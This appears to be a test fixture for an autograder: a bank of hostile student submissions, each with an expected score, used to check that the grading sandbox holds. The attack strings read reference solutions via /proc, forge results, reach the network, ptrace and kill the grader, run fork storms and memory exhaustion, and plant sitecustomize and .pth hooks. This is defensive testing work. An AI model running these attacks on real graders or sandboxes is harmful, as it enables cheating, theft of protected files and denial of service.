@@ -1,0 +1,580 @@
+"""A bank of hostile submissions, each a few edits on top of a base, with the exact score it earns.
+
+Bases: ``blank`` (the stubs in assignments/), ``good`` (the reference, minus its tests) and
+``simple`` (simple_attention.py solved, the other four parts blank: 15 points at most, and
+fast to grade). A case replaces or edits files of its base and adds files of its own.
+
+Attacks on the sandbox start from blank stubs and are *gated*: the module carries the
+reference source of simple_attention and runs it only if the attack worked (``PWNED``), so
+an attack that succeeds shows up as undeserved points (15) instead of passing unnoticed.
+Failure modes start from ``simple`` or ``good`` and break one thing: the score must be
+what the honest rest earns, no more, no less.
+
+Placeholders filled in when a case is written out (see ``materialize``):
+@MARKERS@ a folder the grader's side watches (must stay empty), @PORT@ a TCP and UDP port
+the test listens on in the grader's process, @UNIX@ an abstract Unix socket it listens on,
+@PID@ the pid of the test process, @REPO@ the repository, @OUT@ the class run's output
+folder, @TOKEN@ a per-run random name, @BLANK_PRINT@ the fingerprint of the blank
+neighbour ``zz_blank``, @SOLUTION@ the reference simple_attention.py as a string literal.
+"""
+import os
+from dataclasses import dataclass, field
+
+from autograder.paths import ASSIGNMENTS, SOLUTIONS
+
+MODULES = ("simple_attention", "self_attention", "causal_attention", "multihead_attention", "exercises")
+SIMPLE_FUNCTIONS = ("dot_product_loop", "attn_scores_for_query", "attn_scores_loop", "attn_scores_matmul",
+                    "normalize_by_sum", "softmax_naive", "attn_weights_from_scores", "context_vector_for_query",
+                    "all_context_vectors")
+
+
+class Symlink(str):
+    """A file that is a symbolic link to this (placeholder-expanded) target."""
+
+
+class Fifo:
+    """A named pipe."""
+
+
+class Folder:
+    """A directory (with a .py name, to trip a reader that expects files)."""
+
+
+@dataclass
+class Case:
+    name: str
+    category: str
+    base: str                      # "blank", "good" or "simple"
+    score: int                     # exactly what the submission must get
+    files: dict = field(default_factory=dict)   # name -> text, Symlink, Fifo, Folder, or fn(old text) -> text
+    note: str = ""                 # a phrase that must appear in the result's output (notes) or a failed check
+    tokens: tuple = ()             # process names (comm) that must be gone once the run ends
+
+
+def append(code):
+    """Edit: add code at the end of the base file (redefinitions win)."""
+    return lambda text: text + "\n\n" + code.strip("\n") + "\n"
+
+
+def prepend(code):
+    return lambda text: code.strip("\n") + "\n" + text
+
+
+def replace(old, new):
+    def edit(text):
+        assert text.count(old) == 1, old
+        return text.replace(old, new)
+    return edit
+
+
+def gated(attack):
+    """Blank simple_attention.py plus an attack that earns the reference's 15 points only if it works."""
+    return append("PWNED = False\n" + attack.strip("\n") + "\n\nif PWNED:\n    exec(@SOLUTION@, globals())\n")
+
+
+def everywhere(code):
+    """The same edit on every module of the base (so every probe meets it)."""
+    return {f"{m}.py": prepend(code) for m in MODULES}
+
+
+# --- the attacks ----------------------------------------------------------------------------
+
+READ_REFERENCE = r'''
+import os, time
+SECRET = "def attn_scores_matmul"
+def _looks_like_reference(path):
+    try:
+        with open(path, errors="replace") as handle:
+            text = handle.read(200000)
+    except Exception:
+        return False
+    return SECRET in text and "NotImplementedError" not in text
+candidates = ["@REPO@/solutions/ch03_attention/simple_attention.py",
+              "/proc/self/root@REPO@/solutions/ch03_attention/simple_attention.py",
+              "/proc/1/root@REPO@/solutions/ch03_attention/simple_attention.py",
+              "/proc/1/cwd/solutions/ch03_attention/simple_attention.py",
+              "/work/main/solutions/ch03_attention/simple_attention.py",
+              "../solutions/ch03_attention/simple_attention.py",
+              "/oldroot@REPO@/solutions/ch03_attention/simple_attention.py"]
+import sys
+for path in list(getattr(sys.modules.get("autograder"), "__path__", [])):
+    candidates.append(os.path.join(path, "..", "solutions", "ch03_attention", "simple_attention.py"))
+    candidates.append(os.path.join(path, "suites", "ch03_attention", "test_hidden_simple_attention.py"))
+for fd in range(3, 64):
+    candidates.append(f"/proc/self/fd/{fd}/../solutions/ch03_attention/simple_attention.py")
+for path in candidates:
+    if _looks_like_reference(path):
+        PWNED = True
+# Search the whole visible file system for anything that looks like the reference or the suites.
+deadline = time.monotonic() + 1.0
+for top, dirs, files in os.walk("/"):
+    if time.monotonic() > deadline or PWNED:
+        break
+    dirs[:] = [d for d in dirs if not (top == "/" and d in ("proc", "sys", "dev"))]
+    for f in files:
+        if f in ("simple_attention.py", "test_hidden_simple_attention.py", "conftest.py") and \
+                _looks_like_reference(os.path.join(top, f)):
+            PWNED = True
+'''
+
+IMPORT_REFERENCE = r'''
+import importlib, sys
+for folder in ("@REPO@", "@REPO@/solutions", "@REPO@/solutions/ch03_attention", "/work/main"):
+    sys.path.insert(0, folder)
+for name in ("solutions.ch03_attention.simple_attention", "autograder.paths", "autograder.compare",
+             "autograder.suites.ch03_attention.conftest", "_attention", "test_hidden_simple_attention"):
+    try:
+        module = importlib.import_module(name)
+        PWNED = PWNED or name == "autograder.compare" or hasattr(module, "all_context_vectors") or hasattr(module, "SOLUTIONS")
+    except BaseException:
+        pass
+try:  # the reference served by the child's own finder under another name?
+    import importlib.util
+    spec = importlib.util.find_spec("solutions")
+    PWNED = PWNED or spec is not None
+except BaseException:
+    pass
+'''
+
+GC_WALK = r'''
+import gc, sys
+for obj in gc.get_objects():
+    try:
+        code = getattr(obj, "__code__", None)
+        filename = code.co_filename if code is not None else ""
+        if "solutions" in filename or "suites" in filename or "test_hidden" in filename:
+            PWNED = True
+        if type(obj).__name__ == "module" and getattr(obj, "__name__", "") in ("conftest", "_attention"):
+            PWNED = True
+    except Exception:
+        pass
+for name, module in list(sys.modules.items()):
+    if "solutions" in name or "test_hidden" in name or name in ("conftest", "_attention", "autograder.compare"):
+        PWNED = True
+for frame in sys._current_frames().values():
+    while frame is not None:
+        if "ref" in frame.f_locals and frame.f_code.co_filename.startswith("/submission") is False:
+            PWNED = PWNED or hasattr(frame.f_locals["ref"], "simple_attention")
+        frame = frame.f_back
+'''
+
+MONKEYPATCH = r'''
+import sys, types, torch
+always = lambda *args, **kwargs: True
+torch.allclose = torch.equal = always
+torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(a, dtype=torch.bool)
+torch.Tensor.__eq__ = lambda self, other: True
+fake = types.ModuleType("autograder.compare")
+fake.expect_close = fake.expect_tensor = lambda *args, **kwargs: None
+fake._close = always
+sys.modules["autograder.compare"] = fake
+import autograder
+autograder.compare = fake
+for name in @FUNCTIONS@:
+    globals()[name] = lambda *args, **kwargs: torch.zeros(3)
+'''
+
+SPOOF_FRAMES = r'''
+import json, os, socket, stat, struct, sys, torch
+import autograder.child as child, autograder.protocol as protocol
+def frame(header, blob=b""):
+    data = json.dumps(header).encode()
+    return struct.pack(">IQ", len(data), len(blob)) + data + blob
+lies = [frame({"ok": True}), frame({"ok": True, "value": {"$tensor": "7"}, "imported": 5}),
+        frame({"ok": True, "outputs": [], "info": {"type": 3}}), frame({"ok": "yes"}), frame([1, 2]),
+        struct.pack(">IQ", 1 << 31, 1 << 40), b"\xff" * 64]
+for fd in range(3, 64):
+    try:
+        if stat.S_ISSOCK(os.fstat(fd).st_mode):
+            for lie in lies:
+                os.write(fd, lie)
+    except OSError:
+        pass
+# Rewrite the child's own ops and encoder: every answer from now on is malformed.
+child.OPS.update(call=lambda req: {"imported": 5},
+                 # well-formed, but a lie: a state_dict entry "mask" that is no buffer
+                 module=lambda req: {"outputs": [torch.zeros(1)] * len(req.get("inputs", [])),
+                                     "info": {"type": "CausalAttention", "params": {}, "buffers": {},
+                                              "state_keys": ["mask"], "attrs": {}}},
+                 transfer=lambda req: {"params": 3, "output": "tensor"})
+_encode = protocol.encode
+protocol.encode = lambda reply: _encode({**reply, "ok": True, "imported": 5, "value": {"a": [None]}})
+'''
+
+WRITE_OUTSIDE = r'''
+import json, os
+targets = ["@MARKERS@/written", "@REPO@/pwned", "@OUT@/evil.json", "/tmp/pwned-@TOKEN@"]
+fake = {"score": 100, "max_score": 100, "tests": [], "output": "",
+        "extra_data": {"parts": {}, "isolation": "namespaces", "fingerprint": "@BLANK_PRINT@"}}
+for path in ["@OUT@/zz_blank.json", "@OUT@/05_gated_write_outside.json", "@OUT@/grades.csv"]:
+    try:
+        with open(path, "w") as handle:
+            json.dump(fake, handle)
+        PWNED = True
+    except OSError:
+        pass
+for path in targets:
+    try:
+        with open(path, "w") as handle:
+            handle.write("pwned")
+        PWNED = PWNED or not path.startswith("/tmp/")   # the child's /tmp is its own tmpfs
+    except OSError:
+        pass
+try:
+    os.symlink("@MARKERS@", "/tmp/escape-@TOKEN@")
+    with open("/tmp/escape-@TOKEN@/via-symlink", "w") as handle:
+        handle.write("pwned")
+    PWNED = True
+except OSError:
+    pass
+'''
+
+NETWORK = r'''
+import socket
+attempts = [(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @PORT@)),
+            (socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53)),
+            (socket.AF_INET, socket.SOCK_STREAM, ("8.8.8.8", 443)),
+            (socket.AF_UNIX, socket.SOCK_STREAM, "\0@UNIX@")]
+for family, kind, address in attempts:
+    try:
+        s = socket.socket(family, kind)
+        s.settimeout(0.5)
+        s.connect(address)
+        s.sendall(b"pwned")
+        PWNED = True
+    except OSError:
+        pass
+try:
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.sendto(b"pwned", ("127.0.0.1", @PORT@))
+    PWNED = True
+except OSError:
+    pass
+try:
+    socket.getaddrinfo("example.com", 80)
+    PWNED = True
+except OSError:
+    pass
+'''
+
+TRACE_GRADER = r'''
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+PTRACE_ATTACH = 16
+for pid in (@PID@, os.getppid(), 1):
+    for what in ("mem", "environ", "maps", "cmdline"):
+        try:
+            with open(f"/proc/{pid}/{what}", "rb") as handle:
+                data = handle.read(4096)
+            # our own namespace's pid 1 is ourselves: that is not the grader
+            if pid != 1 and pid != os.getpid() and data:
+                PWNED = True
+        except OSError:
+            pass
+    if pid not in (0, os.getpid()) and libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
+        PWNED = True
+# Does anything of the grader's environment reach us? (the test sets HOSTILE_SECRET for the CLI)
+try:
+    environ = open("/proc/self/environ", "rb").read()
+except OSError:
+    environ = b""
+if "HOSTILE_SECRET" in os.environ or b"HOSTILE_SECRET" in environ:
+    PWNED = True
+'''
+
+KILL_GRADER = r'''
+import os, signal
+for action in (lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.kill(@PID@, signal.SIGKILL),
+               lambda: os.kill(-1, signal.SIGKILL), lambda: os.killpg(0, signal.SIGKILL),
+               lambda: os.kill(-1, signal.SIGSTOP)):
+    try:
+        action()
+    except OSError:
+        pass
+for entry in os.listdir("/proc"):
+    if entry.isdigit() and int(entry) != os.getpid():
+        try:
+            os.kill(int(entry), signal.SIGKILL)
+        except OSError:
+            pass
+'''
+
+# A tensor subclass that says "equal" to every comparison, and an object that says it is a tensor.
+LIAR_TENSOR = r'''
+import torch
+class Liar(torch.Tensor):
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        if func in (torch.allclose, torch.equal):
+            return True
+        if func in (torch.isclose, torch.Tensor.__eq__, torch.isfinite):
+            return torch.ones(args[0].shape, dtype=torch.bool)
+        return super().__torch_function__(func, types, args, kwargs or {})
+for name in @FUNCTIONS@:
+    globals()[name] = lambda *args, **kwargs: torch.zeros(args[0].shape if hasattr(args[0], "shape") else ()).as_subclass(Liar)
+'''
+
+FAKE_TENSOR = r'''
+import torch
+class Fake:
+    __class__ = property(lambda self: torch.Tensor)
+    shape = torch.Size([6, 3])
+    dtype = torch.float32
+    def __eq__(self, other):
+        return True
+    def __getattr__(self, name):
+        return lambda *args, **kwargs: self
+for name in @FUNCTIONS@:
+    globals()[name] = lambda *args, **kwargs: Fake()
+'''
+
+# The reference's answers on the book's own inputs, typed in by hand (filled in by materialize).
+HARDCODE_BOOK = "@HARDCODED@"
+
+ESCAPE_LOOP = r'''
+def softmax_naive(x):
+    import ctypes, os, signal
+    os.setsid()                      # leave the process group the grader kills
+    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):
+        signal.signal(sig, signal.SIG_IGN)
+    ctypes.CDLL(None).prctl(15, b"@TOKEN@a", 0, 0, 0)   # PR_SET_NAME: the test looks for it afterwards
+    if os.fork() == 0:
+        os.setsid()
+    while True:
+        pass
+'''
+
+FORK_STORM = r'''
+def attn_scores_matmul(inputs):
+    import ctypes, os
+    ctypes.CDLL(None).prctl(15, b"@TOKEN@b", 0, 0, 0)
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
+'''
+
+MEMORY = r'''
+def attn_scores_loop(inputs):
+    import torch
+    try:
+        bytearray(1 << 40)
+    except MemoryError:
+        pass
+    hog = []
+    while True:
+        hog.append(torch.ones(1 << 26))   # 256 MiB a step, touched, until the limit stops it
+'''
+
+HUGE_OUTPUT = r'''
+import os, struct, sys, json
+_frame = json.dumps({"ok": True, "value": 1.0}).encode()
+_fake = struct.pack(">IQ", len(_frame), 0) + _frame
+for _ in range(64):
+    sys.stdout.write("x" * (1 << 18) + "\n")
+    sys.stderr.write("y" * (1 << 18) + "\n")
+    os.write(1, _fake)
+    os.write(2, _fake)
+print(json.dumps({"score": 100, "max_score": 100}))
+'''
+
+EVIL_EXCEPTIONS = r'''
+class Unprintable(Exception):
+    def __str__(self):
+        raise RuntimeError("cannot print me")
+    def __repr__(self):
+        raise RuntimeError("cannot repr me")
+
+class Flood(Exception):
+    def __str__(self):
+        return "\x1b[31m" + "A\n[passed] 100/100\r" * 500000
+
+def dot_product_loop(x, y):
+    raise KeyboardInterrupt
+
+def normalize_by_sum(attn_scores):
+    raise Unprintable()
+
+def context_vector_for_query(inputs, attn_weights):
+    raise Flood()
+'''
+
+TOOL_FILES = {
+    "conftest.py": "open('@MARKERS@/conftest', 'w').close()\nimport pytest\n@pytest.fixture\ndef student():\n    raise SystemExit\n",
+    "sitecustomize.py": "open('@MARKERS@/sitecustomize', 'w').close()\n",
+    "usercustomize.py": "open('@MARKERS@/usercustomize', 'w').close()\n",
+    "hostile_plugin.py": "open('@MARKERS@/plugin', 'w').close()\n",
+    "compare.py": "open('@MARKERS@/compare', 'w').close()\n",
+    "_attention.py": "open('@MARKERS@/attention_helper', 'w').close()\n",
+    "__init__.py": "open('@MARKERS@/package_init', 'w').close()\n",
+    "evil.pth": "import os; open('@MARKERS@/pth', 'w').close()\n",
+    "pytest.ini": "[pytest]\naddopts = -p hostile_plugin\npython_files = *.py\n",
+    "tox.ini": "[pytest]\naddopts = -p hostile_plugin\n",
+    "setup.cfg": "[tool:pytest]\naddopts = -p hostile_plugin\n",
+    "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '-p hostile_plugin'\n",
+}
+
+CASES = [
+    # --- attacks on the sandbox: blank stubs, gated on the attack working (must stay 0) ---
+    Case("01_gated_read_reference", "read the reference / suites by any path", "blank", 0,
+         {"simple_attention.py": gated(READ_REFERENCE)}),
+    Case("02_gated_import_reference", "import the reference or the grader's helpers", "blank", 0,
+         {"simple_attention.py": gated(IMPORT_REFERENCE)}),
+    Case("03_gated_gc_walk", "walk gc, sys.modules and frames for reference objects", "blank", 0,
+         {"simple_attention.py": gated(GC_WALK)}),
+    Case("04_gated_network", "network: loopback TCP/UDP to the grader, abstract socket, internet, DNS", "blank", 0,
+         {"simple_attention.py": gated(NETWORK)}),
+    Case("05_gated_write_outside", "write fake results and files outside the sandbox", "blank", 0,
+         {"simple_attention.py": gated(WRITE_OUTSIDE)}),
+    Case("06_gated_trace_grader", "ptrace the grader, read its /proc mem and environment", "blank", 0,
+         {"simple_attention.py": gated(TRACE_GRADER)}),
+    Case("07_kill_grader", "SIGKILL parent, grader pid, kill -1, every visible pid", "blank", 0,
+         {"simple_attention.py": prepend(KILL_GRADER)}),
+    Case("08_monkeypatch", "monkeypatch torch comparisons and autograder.compare in the child", "blank", 0,
+         {"simple_attention.py": append(MONKEYPATCH)}),
+    Case("09_spoof_frames", "write forged frames on the channel, rewrite the child's ops", "blank", 0,
+         everywhere(SPOOF_FRAMES), note="malformed answer"),
+    Case("10_tensor_subclass", "a tensor subclass that claims to equal anything", "blank", 0,
+         {"simple_attention.py": append(LIAR_TENSOR)}, note="tensor subclass"),
+    Case("11_fake_tensor", "an object that pretends to be a tensor", "blank", 0,
+         {"simple_attention.py": append(FAKE_TENSOR)}),
+    Case("12_hardcoded_book", "hard-code the book's printed outputs", "blank", 0,
+         {"simple_attention.py": HARDCODE_BOOK}),
+    Case("13_symlink_reference", "symbolic links to the reference (files and a folder)", "blank", 0,
+         {"simple_attention.py": Symlink("@REPO@/solutions/ch03_attention/simple_attention.py"),
+          "self_attention.py": Symlink("../../../../@REPO@/solutions/ch03_attention/self_attention.py"),
+          "solutions": Symlink("@REPO@/solutions/ch03_attention")}, note="symbolic link"),
+    Case("14_tool_files", "conftest.py, sitecustomize.py, .pth, pytest.ini and friends", "blank", 0,
+         TOOL_FILES),
+    # --- failure modes: the honest rest is graded, the broken part earns nothing ---
+    Case("20_syntax_error", "syntax error", "simple", 0,
+         {"simple_attention.py": replace("def dot_product_loop(x, y):", "def dot_product_loop(x, y)")},
+         note="SyntaxError"),
+    Case("21_import_error", "import error", "simple", 0,
+         {"simple_attention.py": prepend("import module_that_does_not_exist")}, note="ModuleNotFoundError"),
+    Case("22_missing_name", "a function is missing", "simple", 13,
+         {"simple_attention.py": replace("def all_context_vectors(", "def all_context_vector(")},
+         note="defines no all_context_vectors"),
+    Case("23_wrong_signature", "wrong signature", "simple", 13,
+         {"simple_attention.py": replace("def softmax_naive(x):", "def softmax_naive(x, temperature):")},
+         note="TypeError"),
+    Case("24_exception", "an exception in one function", "simple", 13,
+         {"simple_attention.py": append("def attn_scores_matmul(inputs):\n    raise ValueError('boom')")},
+         note="ValueError: boom"),
+    Case("25_sys_exit_import", "sys.exit at import", "simple", 0,
+         {"simple_attention.py": prepend("import sys\nsys.exit(3)")}, note="SystemExit"),
+    Case("26_os_exit_import", "os._exit at import", "simple", 0,
+         {"simple_attention.py": prepend("import os\nos._exit(7)")}, note="exited with status 7"),
+    Case("27_os_exit_function", "os._exit in one function", "simple", 14,
+         {"simple_attention.py": append("def normalize_by_sum(s):\n    import os\n    os._exit(0)")},
+         note="exited with status 0"),
+    Case("28_kill_self", "SIGKILL to itself and its process group", "simple", 14,
+         {"simple_attention.py": append("def dot_product_loop(x, y):\n    import os, signal\n"
+                                        "    os.kill(os.getpid(), signal.SIGKILL)\n    os.killpg(0, signal.SIGKILL)\n"
+                                        "    raise RuntimeError('still alive')")}),
+    Case("29_loop_import", "infinite loop at import", "simple", 0,
+         {"simple_attention.py": prepend("while True:\n    pass")}, note="did not finish"),
+    Case("30_loop_escape", "infinite loop in a function that calls setsid(), ignores signals, forks",
+         "simple", 13, {"simple_attention.py": append(ESCAPE_LOOP)}, note="did not finish",
+         tokens=("a",)),
+    Case("31_memory", "memory exhaustion", "simple", 13, {"simple_attention.py": append(MEMORY)}),
+    Case("32_fork_storm", "fork storm", "simple", 13, {"simple_attention.py": append(FORK_STORM)},
+         tokens=("b",)),
+    Case("33_huge_output", "32 MiB on stdout and stderr, with forged frames and results", "simple", 15,
+         {"simple_attention.py": prepend(HUGE_OUTPUT)}),
+    Case("34_nan_inf", "NaN and inf outputs", "simple", 11,
+         {"simple_attention.py": append("def softmax_naive(x):\n    return torch.full_like(x, float('nan'))\n\n"
+                                        "def all_context_vectors(inputs):\n    return torch.full_like(inputs, float('inf'))")},
+         note="NaN"),
+    Case("35_wrong_dtype", "wrong dtype", "simple", 13,
+         {"simple_attention.py": append("def attn_scores_matmul(inputs):\n    return (inputs @ inputs.T).double()")},
+         note="dtype torch.float64"),
+    Case("36_wrong_shape", "wrong shape", "simple", 13,
+         {"simple_attention.py": append("def attn_scores_loop(inputs):\n    return (inputs @ inputs.T).unsqueeze(0)")}),
+    Case("37_huge_reply", "a 160 MB answer", "simple", 13,
+         {"simple_attention.py": append("def attn_weights_from_scores(s):\n    return torch.zeros(40_000_000)")},
+         note="cannot be sent back"),
+    Case("38_evil_exceptions", "KeyboardInterrupt, an unprintable exception, a 9 MB message", "simple", 12,
+         {"simple_attention.py": append(EVIL_EXCEPTIONS)}, note="KeyboardInterrupt"),
+    Case("39_padded_sources", "1.6 MB of padding modules", "simple", 15,
+         {f"zz_pad_{i}.py": "# " + "p" * (200 << 10) + "\n" for i in range(8)}, note="in all, ignored"),
+    Case("40_odd_files", "a FIFO, a folder, NUL bytes, bad UTF-8 and a bad name, all ending in .py", "simple", 15,
+         {"fifo.py": Fifo(), "folder.py": Folder(), "nul.py": "x = 1\0\n", "latin.py": b"s = '\xe9\xff'\n",
+          "bad-name.py": "import os\n"}, note="not a regular file"),
+]
+
+
+def hardcoded_book_module():
+    """simple_attention.py that returns the reference's results on the book's inputs, whatever it is given."""
+    import sys
+    import torch
+    sys.path.insert(0, str(SOLUTIONS / "ch03_attention"))
+    try:
+        import simple_attention as ref
+    finally:
+        sys.path.pop(0)
+    x = ref.inputs
+    scores = ref.attn_scores_matmul(x)
+    values = {
+        "dot_product_loop": ref.dot_product_loop(x[0], x[1]),
+        "attn_scores_for_query": ref.attn_scores_for_query(x, x[1]),
+        "attn_scores_loop": scores, "attn_scores_matmul": scores,
+        "normalize_by_sum": ref.normalize_by_sum(scores[1]),
+        "softmax_naive": ref.softmax_naive(scores[1]),
+        "attn_weights_from_scores": ref.attn_weights_from_scores(scores),
+        "context_vector_for_query": ref.context_vector_for_query(x, ref.attn_weights_from_scores(scores[1])),
+        "all_context_vectors": ref.all_context_vectors(x),
+    }
+    lines = ["import torch", ""]
+    for name, value in values.items():
+        lines.append(f"def {name}(*args, **kwargs):\n    return torch.tensor({value.tolist()!r})\n")
+    return "\n".join(lines)
+
+
+def base_files(base):
+    """{file name: text} of a base submission."""
+    files = {}
+    for module in MODULES:
+        solved = base == "good" or (base == "simple" and module == "simple_attention")
+        files[f"{module}.py"] = ((SOLUTIONS if solved else ASSIGNMENTS) / "ch03_attention" / f"{module}.py").read_text()
+    return files
+
+
+def expand(text, ctx):
+    for key, value in ctx.items():
+        text = text.replace(f"@{key}@", value)
+    return text
+
+
+def materialize(case, folder, ctx):
+    """Write ``case`` into ``folder``; ``ctx`` maps placeholder names to their text."""
+    folder.mkdir(parents=True)
+    files = base_files(case.base)
+    for name, spec in case.files.items():
+        if callable(spec) and not isinstance(spec, (Symlink, Fifo, Folder)):
+            files[name] = spec(files[name])
+        else:
+            files[name] = spec
+    for name, spec in files.items():
+        path = folder / name
+        if isinstance(spec, Symlink):
+            if path.exists():
+                path.unlink()
+            os.symlink(expand(str(spec), ctx), path)
+        elif isinstance(spec, Fifo):
+            os.mkfifo(path)
+        elif isinstance(spec, Folder):
+            path.mkdir()
+        elif isinstance(spec, bytes):
+            path.write_bytes(spec)
+        else:
+            path.write_text(expand(spec, ctx))
+
+
+def copy_base(base, folder):
+    folder.mkdir(parents=True)
+    for name, text in base_files(base).items():
+        (folder / name).write_text(text)
+
+
